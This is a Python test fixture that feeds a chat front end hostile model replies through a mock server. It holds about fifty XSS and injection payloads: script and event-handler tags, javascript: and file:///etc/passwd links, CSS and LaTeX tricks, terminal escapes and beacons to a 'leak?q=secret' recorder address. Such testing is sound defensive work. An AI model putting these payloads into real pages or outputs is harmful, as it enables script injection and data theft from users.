"""Texts that would act if a front end believed them, and a server that says them."""

from __future__ import annotations

from tests.faults.modes import find_mode
from tests.faults.server import Exchange, status

PWN = "window.__pwned=1"


def hostile_texts(recorder: str) -> list[str]:
    """Return the texts; ``recorder`` is the address that no request may reach."""
    leak = f"{recorder}/leak?q=secret"
    return [
        f"<script>{PWN}</script>",
        f"<SCRIPT SRC={leak}></SCRIPT>",
        f"<img src=x onerror={PWN}>",
        f'<img src="{leak}">',
        f"\n\n<div>\n<script>{PWN}</script>\n</div>\n\n",
        f"text <b onmouseover={PWN} onclick={PWN}>bold</b>",
        f"[click](javascript:{PWN}) and [here](JaVaScRiPt&#58;{PWN})",
        f"[tab](java&#9;script:{PWN}) [line](<java&#10;script:{PWN}>) [space](&#1;javascript:{PWN})",
        f"[ref][1]\n\n[1]: javascript:{PWN} 'x'",
        f"<javascript:{PWN}> <data:text/html,x> <https://a.example/>",
        f"[data](data:text/html,<script>{PWN}</script>) ![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "[vb](vbscript:x) [file](file:///etc/passwd) [office](ms-word:ofe%7Cu%7Chttp://a) [blob](blob:http://a/b)",
        "[relative](/logout) [notebook](other.ipynb) [lab](?reset) [top](#top) [proto](//evil.example/x)",
        f"![x]({leak})",
        f"![x][i]\n\n[i]: {leak}",
        f"[![x]({leak})](https://a.example)",
        f"![]({leak} \"onerror={PWN}\")",
        f"<iframe src='{leak}' srcdoc='<script>parent.{PWN}</script>'></iframe>",
        f"<object data='{leak}'></object><embed src='{leak}'>",
        f"<style>@import '{leak}'; #jp-top-panel {{display:none}} body {{background:url({leak})}}</style>",
        "<div style='position:fixed;inset:0;z-index:99999;background:red'>overlay</div>",
        f"<link rel=stylesheet href='{leak}'><meta http-equiv=refresh content='0;url={leak}'><base href='{leak}'>",
        f"<svg onload={PWN}><script>{PWN}</script><image href='{leak}'/></svg>",
        f"<svg><a xlink:href='javascript:{PWN}'><text>x</text></a></svg>",
        f"<math><mtext><img src=x onerror={PWN}></mtext></math>",
        f"<details open ontoggle={PWN}><summary>s</summary>d</details>",
        f"<form action='{leak}'><input autofocus onfocus={PWN}><button formaction='javascript:{PWN}'>x</button></form>",
        f"<video src='{leak}' onerror={PWN}></video><audio src='{leak}'></audio><source srcset='{leak}'>",
        f"<a href='javascript:{PWN}' data-commandlinker-command='application:reset-layout'>x</a>",
        f"```html\n<script>{PWN}</script><img src=x onerror={PWN}>\n```",
        f"```\"><img src=x onerror={PWN}>\n<img src=x onerror={PWN}>\n```",
        f"`<img src=x onerror={PWN}>` and ``<script>{PWN}</script>``",
        f"    <script>{PWN}</script>",
        f"| <img src=x onerror={PWN}> | b |\n|:-:|--:|\n| <script>{PWN}</script> | [x](javascript:{PWN}) |",
        f"# <img src=x onerror={PWN}>\n\n> <script>{PWN}</script>\n\n1. <svg onload={PWN}>",
        f"</div></pre></code></details><script>{PWN}</script>",
        f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;img src=x onerror={PWN}&#62;",
        f"<!-- --!><img src=x onerror={PWN}> -->",
        f"<![CDATA[<script>{PWN}</script>]]> <?php x ?> <!DOCTYPE html>",
        f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\"></noscript>",
        f"<template><script>{PWN}</script></template><portal src='{leak}'></portal>",
        f"$\\href{{javascript:{PWN}}}{{x}}$",
        f"$\\href{{java\tscript:{PWN}}}{{x}}$ and $$\\href{{java\nscript:{PWN}}}{{x}}$$",
        "$\\href{ms-word:ofe}{x}$ \\(\\href{file:///etc/passwd}{x}\\) \\[\\href{/logout}{x}\\]",
        "$\\mmlToken{mi}[href='a-b:c']{x}$",
        f"$$\\require{{html}}\\style{{position:fixed;inset:0;background:url({leak})}}{{x}}\\cssId{{main}}{{x}}$$",
        "$\\unicode[x;position:fixed;top:0]{65}$ $\\class{jp-Dialog}{x}$ \\begin{align}\\href{file:///x}{x}\\end{align}",
        "$\\smash{\\rlap{\\raise40em{\\rule{60em}{60em}}}}$ $\\def\\alpha{\\beta}$",
        "$a{$ words $}$ costs $5 \\href{file:///x}{y} and $10 \\ref{x}",
        f"\x1b]8;;javascript:{PWN}\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m \x9b2J \x07\x08\x7f",
        "safe\u202etxt.exe\u202c \u2066isolate\u2069 a\rb \x00 \ufeff",
        "```mermaid\ngraph TD; A-->B; click A \"javascript:window.__pwned=1\"\n```",
        f"{{{{ 1 }}}} ${{{PWN}}} <%= x %> {leak} www.a.example",
    ]  # fmt: skip


class Liar:
    """A mode that says the text whose number stands in the prompt, in the place that the prompt names.

    ``text 3`` replies with it, ``model 3`` names its model so, ``error 3`` refuses with it, ``cut 3`` sends it and
    breaks off with it as the reason.
    """

    __name__ = "liar"

    def __init__(self, texts: list[str]) -> None:
        self.texts = texts

    def __call__(self, exchange: Exchange) -> None:
        asked = [words for each in exchange.request.json["messages"]
                 if each["role"] == "user" and len(words := each["content"].split()) == 2]  # fmt: skip
        # The last one, since what follows asks again for JSON; a prompt that names no place gets an ordinary reply.
        place, number = asked[-1] if asked else ("none", "0")
        text = self.texts[int(number)]
        exchange.server.text = text if place in ("text", "cut") else "An ordinary reply."
        exchange.server.model = text if place == "model" else "m"
        match place:
            case "error":
                status(400, body={"error": {"message": text, "type": text, "code": text}})(exchange)
            case "cut":
                exchange.begin_stream()
                exchange.event(exchange.delta(content=text))
                exchange.event({"error": {"message": text}})
                exchange.end_stream()
            case _:
                find_mode("ok")(exchange)
